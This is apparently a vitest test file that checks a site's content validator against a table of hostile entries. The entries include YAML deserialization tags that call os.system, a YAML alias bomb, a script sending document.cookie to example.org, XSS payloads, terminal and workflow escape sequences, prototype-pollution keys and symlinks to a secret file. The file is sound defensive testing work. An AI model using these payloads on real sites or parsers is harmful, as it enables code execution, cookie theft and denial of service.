import { spawn } from 'node:child_process';
import { once } from 'node:events';
import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { writeFiles, type Files } from '../../library/in-content-folder.ts';
import { paper } from '../../rules/sample-entries.ts';
import { temporaryFolder } from '../../site/build-site.ts';

const SIZE = 99_000;

/**
 * Files that mean harm: what stands in the entry, and what the check says of it. Each is checked and mended
 * in a process of its own, which is killed if it freezes or takes more memory than a check may.
 */
const HOSTILE: Record<string, [text: string, says: string]> = {
  'code in the frontmatter': [
    '---js\nrequire("fs").writeFileSync("HACKED", "")\n---\n',
    'Unexpected language `js`',
  ],
  'a tag of YAML that makes functions': [
    "---\ntitle: !!js/function \"function(){ require('fs').writeFileSync('HACKED') }\"\n---\n",
    'Remove the tag',
  ],
  'a tag that makes objects': [
    '---\ntitle: !!python/object/apply:os.system ["touch HACKED"]\n---\n',
    'Remove the tag',
  ],
  'aliases that unfold to gigabytes': [bomb(), '`*a0` is an alias'],
  'an alias of itself': ['---\ntitle: &a [*a]\nadded: "2024-05-31"\n---\n', '`*a` is an alias'],
  'ten thousand anchors': [fields((n) => `k${n}: &a${n} x`), 'Unexpected key'],
  'ten thousand keys': [fields((n) => `k${n}: x`), 'Unexpected key'],
  'lists a hundred thousand deep': [paper([`venue: ${'['.repeat(SIZE)}`]), 'valid-frontmatter'],
  'maps a hundred thousand deep': [paper([`venue: ${'{a: '.repeat(SIZE / 4)}`]), 'valid-frontmatter'],
  'an abstract of ten megabytes': [paper([], 'word '.repeat(2_000_000)), 'Unexpected 10,000,0'],
  'quotes ten thousand deep': [paper([], '> '.repeat(9_000)), 'shallow-nesting'],
  'lists in lists in lists': [paper([], '- '.repeat(9_000)), 'shallow-nesting'],
  'brackets in brackets': [paper([], `${'['.repeat(9_000)}${']'.repeat(9_000)}(`), 'shallow-nesting'],
  'as many tags as fit': [paper([], '<b>'.repeat(SIZE / 3)), 'bounded-text'],
  'as many citations as fit': [paper([], '[@abc]'.repeat(490)), 'Unexpected citation'],
  'as many links as fit': [paper([], '[a](b'.repeat(SIZE / 5)), 'whole-abstract'],
  'as much maths as fits': [paper([], '$a^$ '.repeat(3_900)), 'readable-maths'],
  'maths that is braces': [paper([], `$${'{'.repeat(19_000)}$`), 'readable-maths'],
  'maths that defines itself': [paper([], '$\\def\\a{\\a\\a}\\a$'), 'readable-maths'],
  'backticks of every length': [
    paper([], Array.from({ length: 400 }, (_, n) => '`'.repeat(n)).join('a')),
    'bounded-text',
  ],
  'as many spaces as fit': [
    paper([`venue: "${' '.repeat(SIZE / 3)}x"`], `${' '.repeat(SIZE / 3)}x`),
    'whole-abstract',
  ],
  'as many lines as fit': [paper([], `x${'\n'.repeat(SIZE)}* x`), 'bounded-text'],
  'as many stars as fit': [paper([], `x${'*'.repeat(SIZE)}x`), 'whole-abstract'],
  'an identifier of brackets': [paper([`arxiv: "${'['.repeat(990)}"`]), 'quoted-identifier'],
  'a name of commas': [paper([`authors: ["${', '.repeat(140)}x"]`]), 'authors-as-names'],
  'an address of dots': [paper([`links: { code: "https://${'a.'.repeat(950)}" }`]), 'web-link'],
  'a summary of capitals': [paper([`summary: "${'AB '.repeat(SIZE / 3)}"`]), 'at most 200 characters'],
  'processing instructions without end': [paper([], `a ${'<?'.repeat(45_000)}`), 'bounded-text'],
  'comments without end': [paper([], `a ${'<!--'.repeat(22_500)}`), 'bounded-text'],
  'links that nothing opens': [paper([], '\\[](p'.repeat(18_000)), 'bounded-text'],
  'emphasis in emphasis': [paper([], `${'*a **b '.repeat(1_000)}x${'** *'.repeat(1_000)}`), 'bounded-text'],
  'emphasis that nothing closes': [paper([], '*a_'.repeat(30_000)), 'bounded-text'],
  'emphasis that closes in another': [paper([], '**x*'.repeat(22_500)), 'bounded-text'],
  'deletions that nothing closes': [paper([], '~~a'.repeat(30_000)), 'bounded-text'],
  'headings without end': [paper([], 'a\n=\n'.repeat(6_000)), 'bounded-text'],
  'code that nothing closes': [paper([], '\\``{ '.repeat(3_900)), 'bounded-text'],
  'lines that go on a quote': [paper([], `> a\n${'b\n'.repeat(9_000)}`), 'bounded-text'],
  'a sparse table': [
    paper([], `${'|a'.repeat(2_000)}|\n${'|-'.repeat(2_000)}|\n${'|x|\n'.repeat(900)}`),
    'bounded-text',
  ],
  'a formula of roots in roots': [paper([], `$${'\\sqrt'.repeat(3_000)} x$`), 'readable-maths'],
  'a word of capitals': [paper([], 'A'.repeat(90_000)), 'bounded-text'],
  'a title without end': [
    paper().replace('"A title"', `"${'a:'.repeat(45_000)}"`),
    'for `title`, expected at most 1,000 characters',
  ],
  'a venue of spaces': [paper([`venue: "A${' '.repeat(90_000)}b"`]), 'expected at most 1,000 characters'],
  'a first line of spaces': [`---${' '.repeat(SIZE / 2)}x${' '.repeat(SIZE / 2)}x\n---\n`, 'executable'],
  'a year of the Romans': [paper(['published: "0203-10-31"']), 'Unexpected year `0203`'],
  'a list that is an ordered map': [
    paper(['links: !!omap', '  - code: https://example.org/']),
    '`!!omap` is a tag',
  ],
  'nine thousand former names': [
    paper([`aliases: [${Array.from({ length: 9_000 }, (_, n) => `a${n}`).join(', ')}]`]),
    'expected at most 50 items',
  ],
  'a script': [
    paper([], '<script>fetch("https://example.org/" + document.cookie)</script>'),
    'Unexpected HTML',
  ],
  'HTML behind HTML': [paper([], '<img src=x onerror=alert(1)>'), 'Unexpected HTML'],
  'a link that runs': [paper([], '[x](javascript:alert(1))'), 'web-link'],
  'text that turns round': [paper([], 'evil \u202Etxt.exe'), 'bidirectional control U+202E'],
  'text that nobody sees': [paper([], 'wo\u200Brd'), 'zero-width character U+200B'],
  'commands for the terminal': [
    paper(['venue: "\\e]0;title\\a\\e[2J"'], '\u001B[2J'),
    'control character U+001B',
  ],
  'commands for a workflow': [paper(['topics: ["::error::x"]'], '::add-mask::x\n'), 'Unexpected topic'],
  'a NUL byte': [paper([], 'a\0b'), 'NUL byte'],
  'a character that was lost': [paper([], 'Schr\uFFFDdinger'), 'no-lost-characters'],
  'a prototype': [
    '---\n__proto__: { title: A }\nconstructor: { prototype: B }\n---\nText.\n',
    'Unexpected key',
  ],
};

describe.concurrent('a hostile entry', () => {
  it.each(Object.entries(HOSTILE))('%s', async (name, [text, says]) => {
    const { output, files } = await checked({ 'papers/a.md': text });
    expect(output).toContain(says);
    expect(output).not.toMatch(/(?![\n])\p{Cc}|[\u202A-\u202E\u200B]/u);
    expect(files).toEqual(['papers', 'papers/a.md', 'site.yaml']);
    expect(fs.existsSync('HACKED'), name).toBe(false);
  });

  it('a file in the place of a folder', async () => {
    const { output } = await checked({ papers: 'x' });
    expect(output).toContain('Unexpected file `papers`, expected a folder of that name');
  });

  it('as many synonyms as fit', async () => {
    const words = Array.from({ length: 9_000 }, (_, n) => `w${n}`).join(', ');
    const { output } = await checked({
      'papers/a.md': paper(),
      'synonyms.yaml': `groups:\n  - [${words}]\n`,
    });
    expect(output).toContain('expected at most 50 items');
  });

  it.skipIf(process.platform === 'win32')(
    'a link out of the folder is neither read nor written',
    async () => {
      const { output, files, outside } = await checked({}, (folder, secret) => {
        fs.mkdirSync(path.join(folder, 'papers'));
        fs.symlinkSync(secret, path.join(folder, 'papers/a.md'));
        fs.symlinkSync('/dev/zero', path.join(folder, 'papers/b.md'));
      });
      expect(output).toContain('Unexpected symbolic link');
      expect(output).not.toContain('SECRET');
      expect(outside).toBe(SECRET);
      expect(files).toEqual(['papers', 'papers/a.md', 'papers/b.md', 'site.yaml']);
    },
  );
});

/** A check that mends, in a process of its own: what it says, and the files that are there afterwards. */
async function checked(
  entries: Files,
  prepare: (folder: string, secret: string) => void = () => undefined,
): Promise<{ output: string; files: string[]; outside: string }> {
  const root = temporaryFolder();
  const [folder, secret] = [path.join(root, 'content'), path.join(root, 'secret')];
  writeFiles(root, { secret: SECRET, 'content/site.yaml': SITE });
  writeFiles(folder, entries);
  prepare(folder, secret);
  const report = path.join(root, 'report');
  const descriptor = fs.openSync(report, 'w');
  const args = [`--max-old-space-size=${MOST_MEGABYTES}`, 'scripts/check.ts', '--fix'];
  const child = spawn(process.execPath, args, {
    env: { ...process.env, CONTENT_DIR: folder },
    stdio: ['ignore', descriptor, descriptor],
    timeout: LONGEST_MS,
    killSignal: 'SIGKILL',
  });
  const [status, signal] = (await once(child, 'close')) as [number | null, string | null];
  fs.closeSync(descriptor);
  expect({ status, signal }).toEqual({ status: status === 0 ? 0 : 1, signal: null });
  return {
    output: fs.readFileSync(report, 'utf8').replaceAll(folder, 'content'),
    files: (fs.readdirSync(folder, { recursive: true }) as string[])
      .map((file) => file.split(path.sep).join('/'))
      .sort(),
    outside: fs.readFileSync(secret, 'utf8'),
  };
}

function bomb(): string {
  const list = (item: string): string => `[${Array(9).fill(item).join(', ')}]`;
  const lines = Array.from({ length: 12 }, (_, n) => `a${n + 1}: &a${n + 1} ${list(`*a${n}`)}`);
  return paper(['a0: &a0 x', ...lines]);
}

function fields(line: (n: number) => string): string {
  const lines: string[] = [];
  for (let size = 0, n = 0; size < SIZE - 100; n++) {
    lines.push(line(n));
    size += line(n).length + 1;
  }
  return paper(lines);
}

const SITE = 'title: A list\ndescription: What it is.\nurl: https://example.org/\n';
const SECRET = paper([], 'SECRET');

/** A freeze, not a slow machine: each takes seconds at most. */
const LONGEST_MS = 120_000;
const MOST_MEGABYTES = 512;
